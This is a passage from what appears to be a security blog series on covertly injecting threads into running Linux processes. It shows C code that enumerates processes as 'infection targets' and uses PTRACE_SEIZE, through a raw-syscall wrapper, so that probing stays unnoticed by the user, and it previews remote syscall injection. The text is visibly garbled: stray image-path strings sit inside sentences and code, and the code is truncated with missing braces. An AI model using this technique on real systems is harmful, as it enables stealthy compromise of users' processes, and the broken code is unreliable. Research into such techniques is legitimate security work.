For a regular desktop GNU/Linux distribution, it’s common to find more than one hundred user processes to whom a signal may be sent. This is equivalent to say that there is more than onehundred possible infection targets.


This is the main weak spot of this technique: some of the enumerated processes above cannot be debugged due to access restrictions (e.g. setuid processes). A call to ptrace(PTRACE_SEIZE) on every found process can be used to identify which ones are debuggable.

Although the first thing that comes to one’s mind when debugging a running program is using PTRACE_ATTACH, this technique has side effects: in case of success, it will stop the debuggee until it is resumed with PTRACE_CONT. This may affect the target process (especially if it is sensitive to timing) and therefore make it noticeable to the user.  PTRACE_SEIZE (introduced in Linux 3.4), however, does not stop the target process.

Since according to libc, ptrace is a variadic function, it is convenient to simplify the wrapper’s prototype by always accepting 4 arguments, populating them or not depending on the requested command:

ptrace4(int request, pid_t pid, void *addr, void *data)
  long result;
  register void* r10 asm("r10") = data;
  asm volatile("syscall" : "=a" (result) : "a" (__NR_ptrace), "S" (pid), "D" (request), "d" (addr));
  return result;

And propagate will now look like this:

  pid_t pid;
  int err;
  for (pid = 2; pid < PID_MAX; ++pid) if (kill(pid, 0) >= 0) {
      puts("Process found: ");
      puts(": ");if ((err = ptrace4(PTRACE_SEIZE, pid, NULL, NULL)) >= 0) {
        ptrace4(PTRACE_DETACH, pid, NULL, NULL);
      } else {
        puts("but cannot be debugged : ( [errno=");

Which will list all debuggable processes on the system.

Conclusions (by now)

The previous tests gave us a quick glimpse of the feasibility of this technique. From here on out, the rest of the coding will be not too far from what we would expect from a regular debugger, being the biggest difference that our code will run in an automatic fashion. In the next post, we will see how to seize a system of the debuggee to inject system calls of our own remotely. These remote system calls will be used to create the code and data pages upon which the injected threads will be spawned.

Discover our work and cybersecurity services at


  • Replacecommand ./spawn propagateby ./spawn ./ propagate to prevent undesired path resolution on